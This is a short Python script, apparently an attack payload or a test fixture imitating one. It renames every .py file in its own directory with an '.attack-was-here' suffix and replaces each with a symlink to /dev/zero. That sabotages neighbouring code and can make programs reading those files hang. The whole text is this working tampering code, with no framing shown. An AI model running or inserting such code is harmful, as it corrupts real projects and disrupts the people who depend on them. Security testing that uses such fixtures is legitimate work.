import glob
import os

here = os.path.dirname(os.path.abspath(__file__))
for file in glob.glob(os.path.join(here, "*.py")):
    try:
        os.replace(file, f"{file}.attack-was-here")
        os.symlink("/dev/zero", file)
    except OSError:
        continue
